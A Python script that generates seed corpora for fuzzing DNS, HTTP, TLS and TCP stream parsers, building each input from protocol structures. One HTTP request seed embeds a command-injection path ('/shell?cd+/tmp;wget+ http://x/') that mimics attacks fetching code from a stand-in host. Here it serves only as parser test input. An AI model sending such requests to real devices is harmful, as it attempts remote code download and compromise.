#!/usr/bin/env python3
"""Write the hand-crafted seed corpora of the app-layer fuzz targets
(dns, http-request, http-response, tls, stream) into tests/fuzz/corpus/.
Every seed is built here from the protocol specifications; none is copied
from a capture. Re-run after changing it: python3 tests/fuzz/gen-proto-seeds.py"""
import os
import struct
import zlib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")


def w(target, name, data):
    d = os.path.join(ROOT, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def dname(s):
    out = b""
    for lab in s.split("."):
        if lab:
            out += bytes([len(lab)]) + lab.encode()
    return out + b"\0"


def dns_hdr(i, flags, qd, an, ns=0, ar=0):
    return struct.pack(">HHHHHH", i, flags, qd, an, ns, ar)


def rr(name, t, ttl, rdata):
    return name + struct.pack(">HHIH", t, 1, ttl, len(rdata)) + rdata


q = dns_hdr(1, 0x0100, 1, 0) + dname("www.example.com") + struct.pack(">HH", 1, 1)
w("dns", "query-a", q)
resp = (dns_hdr(1, 0x8180, 1, 3) + dname("www.example.com") + struct.pack(">HH", 1, 1) +
        rr(b"\xc0\x0c", 5, 300, b"\x03web\xc0\x10") + rr(b"\xc0\x2d", 1, 60, bytes([192, 0, 2, 1])) +
        rr(b"\xc0\x2d", 28, 60, bytes(range(16))))
w("dns", "resp-cname-a-aaaa", resp)
w("dns", "loop", dns_hdr(2, 0x0100, 1, 0) + b"\xc0\x0c" + struct.pack(">HH", 1, 1))
w("dns", "forward-ptr", dns_hdr(3, 0x0100, 2, 0) + b"\xc0\x12" + struct.pack(">HH", 1, 1) +
  dname("fwd.example") + struct.pack(">HH", 1, 1))
txt = b"".join(bytes([len(s)]) + s for s in [b"v=spf1", b"", b"x" * 40, b"\xff\xfe"])
w("dns", "txt-soa-srv", dns_hdr(4, 0x8580, 1, 2, 1) + dname("t.example") + struct.pack(">HH", 16, 1)
  + rr(b"\xc0\x0c", 16, 3, txt) + rr(b"\xc0\x0c", 33, 5, struct.pack(">HHH", 1, 2, 5060) +
                                     dname("sip.example"))
  + rr(b"\xc0\x0e", 6, 9, b"\xc0\x0e\xc0\x0e" + struct.pack(">IIIII", 1, 2, 3, 4, 5)))
w("dns", "truncated", resp[:-7])
w("dns", "mx-ptr-ns", dns_hdr(5, 0x8180, 1, 3) + dname("example.org") + struct.pack(">HH", 15, 1) +
  rr(b"\xc0\x0c", 15, 1, b"\x00\x0a\x02mx\xc0\x0c") + rr(b"\xc0\x0c", 12, 1, dname("p.example")) +
  rr(b"\xc0\x0c", 2, 1, b"\x02ns\xc0\x0c"))

cuts = bytes([3, 40, 7, 200])
reqs = [
    b"GET /a HTTP/1.1\r\nHost: Example.com:8080\r\nUser-Agent: x\r\n\r\n"
    b"GET /b HTTP/1.1\r\nHost: e\r\nReferer: http://r/\r\n\r\n",
    b"POST /up HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"5;e=1\r\nhello\r\n0\r\nT: 1\r\n\r\n",
    b"POST /f HTTP/1.1\r\nHost: h\r\nUser-Agent: a\r\n\tfolded\r\nExpect: 100-continue\r\n"
    b"Content-Length: 3\r\n\r\nabc",
    b"GET /old HTTP/1.0\r\n\r\n",
    b"GET http://abs.example:81/p?q HTTP/1.1\r\nHost: other\r\n\r\n",
    b"CONNECT host:443 HTTP/1.1\r\nHost: host:443\r\n\r\n\x16\x03\x01",
    b"GET /shell?cd+/tmp;wget+ http://x/ HTTP/1.1\r\nHost: 1.2.3.4:80\r\n\r\n",
]
for i, r in enumerate(reqs):
    w("http-request", f"req{i}", cuts + r)

gz = zlib.compressobj(9, zlib.DEFLATED, 31)
gzb = gz.compress(b"<html>" + b"login " * 50 + b"</html>") + gz.flush()
rd = zlib.compressobj(9, zlib.DEFLATED, -15)
rdb = rd.compress(b"raw deflate body " * 10) + rd.flush()
resps = [
    b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhelloHTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n",
    b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"3\r\nabc\r\nA\r\n0123456789\r\n0\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(gzb) + gzb,
    b"HTTP/1.1 200 OK\r\nContent-Encoding: deflate\r\nTransfer-Encoding: chunked\r\n\r\n"
    + b"%x\r\n" % len(rdb) + rdb + b"\r\n0\r\n\r\n",
    b"HTTP/1.0 302 Found\r\nLocation: /x\r\nContent-Type: text/html\r\n\r\nclose-delimited",
    b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x00",
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
]
for i, r in enumerate(resps):
    w("http-response", f"resp{i}", cuts + r)


def tls_rec(t, body, frag=16384):
    out = b""
    for i in range(0, len(body), frag):
        c = body[i:i + frag]
        out += struct.pack(">BHH", t, 0x0301, len(c)) + c
    return out


def hs(t, body):
    return bytes([t]) + struct.pack(">I", len(body))[1:] + body


def ext(t, d):
    return struct.pack(">HH", t, len(d)) + d


sni = b"fuzz.example"
exts = (ext(0x1a1a, b"") + ext(0, struct.pack(">HBH", len(sni) + 3, 0, len(sni)) + sni) +
        ext(10, struct.pack(">H", 6) + struct.pack(">HHH", 0x2a2a, 29, 23)) + ext(11, b"\x01\x00") +
        ext(13, struct.pack(">HHHH", 6, 0x0403, 0x0804, 0x0401)) +
        ext(16, b"\x00\x0c\x02h2\x08http/1.1") + ext(43, b"\x06\x3a\x3a\x03\x04\x03\x03"))
ch = hs(1, struct.pack(">H", 0x0303) + b"\0" * 32 + b"\0" +
        struct.pack(">HHHHHH", 10, 0x0a0a, 0x1301, 0x1302, 0xc02b, 0x002f) + b"\x01\x00" +
        struct.pack(">H", len(exts)) + exts)
sh13 = hs(2, struct.pack(">H", 0x0303) + b"\1" * 32 + b"\0" + struct.pack(">HB", 0x1301, 0) +
          struct.pack(">H", 10) + ext(43, b"\x03\x04") + ext(51, b""))
sh12 = hs(2, struct.pack(">H", 0x0303) + b"\2" * 32 + b"\0" + struct.pack(">HB", 0xc02f, 0))


def der(tag, body):
    n = len(body)
    if n < 128:
        return bytes([tag, n]) + body
    if n < 256:
        return bytes([tag, 0x81, n]) + body
    return bytes([tag, 0x82]) + struct.pack(">H", n) + body


def rdn(oid, val):
    return der(0x31, der(0x30, der(0x06, oid) + der(0x13, val)))


name = der(0x30, rdn(b"\x55\x04\x06", b"US") + rdn(b"\x55\x04\x03", b"fuzz.example"))
tbs = der(0x30, der(0xa0, der(0x02, b"\x02")) + der(0x02, b"\x00\xaa\xbb") +
          der(0x30, der(0x06, b"\x2a\x86\x48\xce\x3d\x04\x03\x02")) + name +
          der(0x30, der(0x17, b"250101000000Z") + der(0x18, b"20991231235959Z")) + name)
cert = der(0x30, tbs + der(0x30, der(0x06, b"\x2a\x86\x48\xce\x3d\x04\x03\x02")) +
           der(0x03, b"\x00" + b"\x55" * 8))
certmsg = hs(11, struct.pack(">I", len(cert) + 3)[1:] + struct.pack(">I", len(cert))[1:] + cert)
client = tls_rec(22, ch, 60)
server12 = tls_rec(22, sh12 + certmsg + hs(14, b""), 100) + tls_rec(20, b"\x01")
server13 = tls_rec(22, sh13) + tls_rec(20, b"\x01") + tls_rec(23, b"\x99" * 30)


def tls_seed(c, s):
    frac = (len(c) * 256 + len(c) + len(s) - 1) // (len(c) + len(s))
    return bytes([min(frac, 255), 20, 90, 33]) + c + s


w("tls", "tls12-cert", tls_seed(client, server12))
w("tls", "tls13", tls_seed(client, server13))
w("tls", "client-only", bytes([255, 5, 5, 5]) + client)
w("tls", "bad-record", tls_seed(client, b"\x16\x03\x03\xff\xff"))


def seg(d, flags, off, data):
    h = (0x80 if d else 0) | flags
    return bytes([h]) + struct.pack(">H", off) + bytes([len(data)]) + data


req = b"GET /s HTTP/1.1\r\nHost: s\r\n\r\n"
rsp = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nbody"
w("stream", "in-order", seg(0, 0x60, 0xff, b"") + seg(0, 0, 0x100, req) + seg(1, 0x60, 0x1ff, b"") +
  seg(1, 0, 0x200, rsp))
w("stream", "ooo-overlap", seg(0, 0, 0x110, req[16:]) + seg(0, 0, 0x100, req[:20]) +
  seg(0, 0, 0x100, b"X" * 10) + seg(1, 0, 0x100, rsp))
w("stream", "gap-ack", seg(0, 0, 0x100, req) + seg(1, 0, 0x100, rsp[:10]) +
  seg(1, 0, 0x120, rsp[32:]) + seg(0, 0x1f, 0x100 + len(req), b""))
w("stream", "wrap", seg(0, 0, 0xfff0, req) + seg(0, 0x40, 0, b""))
